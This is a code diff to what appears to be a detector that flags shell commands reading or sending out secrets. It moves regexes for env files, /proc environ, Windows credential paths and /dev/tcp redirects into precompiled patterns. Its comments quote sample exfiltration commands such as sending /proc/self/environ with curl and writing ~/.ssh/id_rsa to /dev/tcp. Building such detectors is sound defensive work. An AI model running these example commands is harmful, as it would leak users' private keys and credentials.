@@ -128,6 +128,13 @@ def _secret_path_kept(text: str, raw: str, base: str, home: str) -> str:
     return _secret_path(Word(text, raw))
 
 
+# What `_secret_path` asks of every new word, compiled once (re's functions look each pattern up again per call).
+_PLACEHOLDERS = lazy(r"\.(example|sample|template|dist)$")
+_WINDOWS_START = lazy(r"^([A-Za-z]:\\|%\w+%\\|\$env:\w+\\|\$HOME\\|~\\|\\\\)", re.IGNORECASE)
+_ENV_FILE = lazy(r"(^|/)([\w.-]*\.env|\.env\.\w+)$")
+_PROC_ENVIRON = lazy(r"^/proc/(\d+|self|\$\$|\*)/environ$")
+
+
 def _secret_path(w: Word) -> str:
     text = w.text
     copy = COPY_SUFFIX.search(text)
@@ -135,18 +142,18 @@ def _secret_path(w: Word) -> str:
         base, suffix = text[:copy.start()], text[copy.start():]
         raw = w.raw[:len(w.raw) - len(suffix)] if w.raw.endswith(suffix) else base
         return secret_path(Word(base, raw, has_var=w.has_var))
-    if text.endswith(".pub") or re.search(r"\.(example|sample|template|dist)$", text) or _SSH_NOT_SECRET.search(text):
+    if text.endswith(".pub") or _PLACEHOLDERS.search(text) or _SSH_NOT_SECRET.search(text):
         return ""  # a public key, a file of placeholders, ssh's host list or client settings
     raw = w.raw.strip("'\"")
     # C:\Users\x\.aws\credentials, %APPDATA%\FileZilla\sitemanager.xml, \\dc\SYSVOL\…\Groups.xml
-    if re.match(r"^([A-Za-z]:\\|%\w+%\\|\$env:\w+\\|\$HOME\\|~\\|\\\\)", raw, re.IGNORECASE):
+    if _WINDOWS_START.match(raw):
         raw = raw.replace("\\", "/")
         if _HISTORY_WINDOWS.search(raw):
             return "medium"
         return "high" if _SECRET_NAME.search(raw) or _WINDOWS_SECRET.search(raw) else ""
     t = target(w)
     path = t.path or text
-    if re.search(r"(^|/)([\w.-]*\.env|\.env\.\w+)$", path) or re.match(r"^/proc/(\d+|self|\$\$|\*)/environ$", path):
+    if _ENV_FILE.search(path) or _PROC_ENVIRON.match(path):
         return "medium"  # an env file, or a process's environment (`curl -d @/proc/self/environ …`)
     if t.kind in ("dot-critical", "home", "root", "userhome") or _SECRET_NAME.search(path) or \
             SECRET_PLACE.search(path) or \
@@ -378,7 +385,7 @@ def sent(found: str, c: Ctx, who: str = "") -> Optional[tuple]:
 
 def rule_tcp_redirect(seg) -> Optional[tuple]:
     """``cat ~/.ssh/id_rsa > /dev/tcp/host/port``: bash opens a connection and writes to it."""
-    if not any(r.target is not None and re.match(r"^/dev/(tcp|udp)/", r.target.text) and ">" in r.op
+    if not any(r.target is not None and r.target.text.startswith(("/dev/tcp/", "/dev/udp/")) and ">" in r.op
                for r in seg.redirects):
         return None
     found = _segment_reads_secret(seg)
